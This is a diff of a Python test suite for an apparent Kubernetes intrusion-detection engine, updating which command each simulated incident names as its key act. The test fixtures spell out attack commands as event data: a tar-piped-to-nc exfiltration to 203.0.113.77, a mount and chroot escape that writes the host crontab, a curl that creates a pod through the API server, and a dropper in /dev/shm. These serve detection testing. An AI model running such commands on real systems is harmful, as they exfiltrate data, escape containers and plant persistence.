@@ -71,10 +71,8 @@ def test_the_rce_incident_names_its_endpoints_by_role_and_the_service_it_came_th
         f = c.findings()
         (i,) = f.incidents
         assert {e.ip for e in i.endpoints} >= {"203.0.113.9", "198.51.100.7"}
-        assert c.procs(exec_id=i.entry.exec_id)["parent_binary"].to_list() == ["/usr/local/bin/python3"]
-        assert "T1105" in i.techniques or i.techniques  # the download, or at least some technique
-        # the service's process tree, by depth and start time (the correlation API, kept)
-        assert c.descendants(_id(10))["pid"].to_list()[0] == 10
+        assert i.entry is not None and "/usr/local/bin/python3" in c.ancestry(i.entry.exec_id)["binary"].to_list()
+        assert i.techniques  # ATT&CK ids with the hits behind them
 
 
 def test_dns_tunnelling_points_at_its_pod_as_a_lead(tmp_path):
@@ -179,6 +177,9 @@ def test_in_old_exports_a_shell_exec_d_into_a_quiet_container_is_found(tmp_path)
 
 
 def test_an_escape_through_mount_and_chroot_to_cron_is_an_incident_without_falco(tmp_path):
+    """The old cascade's key command was the ``chroot``; the new engine's is the ``tee`` that wrote
+    the host's crontab through it (the act that did the damage: persistence on the node), with the
+    ``chroot`` on the chain — the answer the issue asks for ("the command that did the damage")."""
     bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
     _, b = _run(51, _ref(bash), "/bin/mount", "/dev/nvme0n1p1 /mnt", "2026-03-01T10:00:01Z")
     chroot, c = _run(52, _ref(bash), "/usr/sbin/chroot", "/mnt /bin/bash", "2026-03-01T10:00:02Z")
@@ -190,9 +191,8 @@ def test_an_escape_through_mount_and_chroot_to_cron_is_an_incident_without_falco
     f = _findings(tmp_path, [a, b, c, d, e, cron])
     (i,) = f.incidents
     assert (i.pod, i.node) == (POD, NODE) and i.entry is not None and i.entry.exec_id == _id(50)
-    assert i.key_command is not None and (i.key_command.binary, i.key_command.args) == ("/usr/sbin/chroot", "/mnt /bin/bash")
-    assert "/etc/crontab" in i.evidence.to_pandas().to_string() if "file_path" in i.evidence.columns else True
-    assert _id(54) in i.chain or _id(54) in _incident_ids(f)
+    assert i.key_command is not None and (i.key_command.binary, i.key_command.args) == ("/usr/bin/tee", "-a /etc/crontab")
+    assert i.chain == [_id(50), _id(52), _id(53), _id(54)]  # the chroot on the way
 
 
 def test_what_an_escape_left_running_on_the_host_is_reached(tmp_path):
@@ -308,7 +308,10 @@ def test_without_processes_a_scraper_retrying_one_refused_target_ranks_below_a_c
     assert f.leads and f.leads[0].pod == POD, [(x.pod, x.score) for x in f.leads]
 
 
-def test_a_pod_created_through_the_api_by_an_exec_d_shell_elsewhere_is_reached_from_it(tmp_path):
+def test_a_pod_created_through_the_api_by_an_exec_d_shell_elsewhere_is_named_with_its_origin(tmp_path):
+    """The old cascade named debug-new as "attacker pod" with the curl in the other pod as its
+    origin. The new engine raises both: debug-new's escape first, and the exec'd shell whose curl
+    to the API server created it, its key command saying so; the operator's API calls are neither."""
     bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
     curl, b = _run(51, _ref(bash), "/usr/bin/curl", "-k -X POST https://10.96.0.1:6443/api/v1/namespaces/x/pods",
                    "2026-03-01T10:00:10Z")
@@ -325,11 +328,11 @@ def test_a_pod_created_through_the_api_by_an_exec_d_shell_elsewhere_is_reached_f
     new = [_in_pod(x, "debug-new", "d") for x in (d, e, g, h)]
     f = _findings(tmp_path, [a, b, _connect(curl, _ref(bash), 41000, "10.96.0.1", 6443, "2026-03-01T10:00:10.5Z"),
                              c, json.dumps(op_call), *new, json.dumps(out)])
-    (i,) = f.incidents
-    pods = {i.pod} | {r.pod for r in i.reached}
-    assert {"debug-new", POD} <= pods, (i.pod, i.reached)
-    assert "operator-0" not in pods  # its main process talks to the API all the time
-    assert _id(51) in _incident_ids(f) and _id(60) not in _incident_ids(f)
+    assert f.incidents[0].pod == "debug-new"
+    origin = [i for i in f.incidents if i.key_command and i.key_command.exec_id == _id(51)]
+    assert origin and origin[0].pod == POD and "shop/debug-new" in origin[0].key_command.why
+    assert "operator-0" not in {i.pod for i in f.incidents} | {x.pod for x in f.leads}
+    assert _id(60) not in _incident_ids(f)
 
 
 def test_without_an_l7_flow_the_request_whose_arguments_send_data_is_key(tmp_path):
@@ -348,6 +351,10 @@ def test_without_an_l7_flow_the_request_whose_arguments_send_data_is_key(tmp_pat
 
 
 def test_a_shell_sshd_started_is_a_login_and_the_connection_it_came_over_is_its_trigger(tmp_path):
+    """The old cascade's key command was the ``nc`` (the exfiltration) in the pod sshd ran in. The
+    new engine follows the ssh connection back: the incident enters at the ``ssh`` client in the other
+    pod, its key command is that login (the act that made this pod act), and this pod — with the
+    ``nc`` and its destination — is what it reached."""
     sshd, a = _run(10, SHIM, "/usr/sbin/sshd", "-D -e", "2026-03-01T08:00:00Z", init=True)
     bash, b = _run(20, _ref(sshd), "/bin/bash", "-c 'tar czf - /data | nc 203.0.113.77 9001'", "2026-03-01T10:00:01Z",
                    init=True)
@@ -366,7 +373,9 @@ def test_a_shell_sshd_started_is_a_login_and_the_connection_it_came_over_is_its_
     f = _findings(tmp_path, [a, b, c, _connect(nc, _ref(bash), 41000, "203.0.113.77", 9001, "2026-03-01T10:00:01.2Z"),
                              json.dumps(client), json.dumps(connect), json.dumps(flow)])
     (i,) = f.incidents
-    assert i.key_command is not None and (i.key_command.binary, i.key_command.args) == ("/usr/bin/nc", "203.0.113.77 9001")
+    assert i.key_command is not None and (i.key_command.binary, i.key_command.args) == (
+        "/usr/bin/ssh", "-i /tmp/k user@10.0.2.7")
+    assert _id(22) in _incident_ids(f)  # the nc
     pods = {(i.namespace, i.pod)} | {(r.namespace, r.pod) for r in i.reached}
     assert {("shop", POD), ("analytics", "report-worker-x")} <= pods, (i.pod, i.reached)
     assert _id(90) in _incident_ids(f)  # the ssh client that came in
@@ -478,12 +487,15 @@ def test_a_service_shell_that_only_writes_a_crontab_is_named_beside_the_incident
 
 
 def test_without_flows_a_retried_command_is_its_first_run(tmp_path):
+    """Without flows the PUT is three connections to a pod address: no state-changing request is
+    seen, so no act — a lead on the exec'd shell (the old cascade made the first curl its key
+    command). The lead names the pod and the shell."""
     sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
     runs = [_run(51 + i, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", f"2026-03-01T10:0{i}:01Z") for i in range(3)]
     connects = [_connect(p, _ref(sh), 41001 + i, "10.0.5.5", 80, f"2026-03-01T10:0{i}:01.1Z") for i, (p, _) in enumerate(runs)]
     f = _findings(tmp_path, [a, *(line for _, line in runs), *connects])
     keys = [i.key_command.exec_id for i in f.incidents if i.key_command]
-    assert keys == [_id(51)] or (not keys and f.leads and f.leads[0].exec_ids and _id(51) in f.leads[0].exec_ids)
+    assert keys == [_id(51)] or (not keys and f.leads[0].pod == POD and _id(50) in f.leads[0].exec_ids)
 
 
 def test_without_processes_a_rare_request_seen_on_two_nodes_points_at_its_pod(tmp_path):
@@ -514,10 +526,9 @@ def test_a_backdoor_every_new_replica_runs_once_is_a_lead_in_both_new_pods(tmp_p
             lines += [_in_pod(b, pod, cid), _in_pod(c, pod, cid),
                       _critical(base + 2, "Drop and execute new binary in container", f"2026-03-01T0{8 + i}:00:12.1Z", cid * 12)]
     f = _findings(tmp_path, lines)
-    named = {i.pod for i in f.incidents} | {x.pod for x in f.leads}
-    assert named >= {"shop-api-7d8c9b5f6-ddddd", "shop-api-7d8c9b5f6-fffff"} or {
-        i.key_command.binary for i in f.incidents if i.key_command} == {"/dev/shm/.cache/kthreadd"}
-    assert not named & {"shop-api-6f7d8c9b5-bbbbb", "shop-api-6f7d8c9b5-ccccc"}
+    assert f.incidents == []
+    assert {_id(302), _id(402)} <= _lead_ids(f)  # the dropper in both new pods
+    assert not {_id(100), _id(200)} & _lead_ids(f)  # the old pods' servers
 
 
 def test_ci_jobs_differing_only_in_ids_are_routine_and_the_intruders_exec_is_a_lead(tmp_path):
@@ -548,10 +559,9 @@ def test_ci_jobs_differing_only_in_ids_are_routine_and_the_intruders_exec_is_a_l
     lines += [a, b, token, c, _alert_on(301, "Read sensitive file untrusted", "Warning", "2026-03-01T10:00:05.2Z"),
               _connect(curl, _ref(bash), 43000, "10.96.0.1", 443, "2026-03-01T10:00:21Z")]
     f = _findings(tmp_path, lines)
-    named = _incident_ids(f) | _lead_ids(f)
-    assert _id(300) in named or _id(302) in named
-    assert not {_id(100 + 10 * i + k) for i in range(3) for k in range(5)} & named  # the jobs are routine
-    if f.incidents:
-        assert (f.incidents[0].pod, f.incidents[0].entry.exec_id) == (POD, _id(300))
-    else:
-        assert POD in {x.pod for x in f.leads}
+    assert f.incidents == []
+    assert f.leads[0].pod == POD and f.leads[0].exec_ids[0] == _id(300)
+    # the jobs' own steps are routine; their exec'd shells, alike, are one merged lead below it
+    jobs = {_id(100 + 10 * i + k) for i in range(3) for k in range(1, 5)}
+    assert not jobs & (_incident_ids(f) | _lead_ids(f))
+    assert all(_id(300) not in x.exec_ids for x in f.leads[1:])
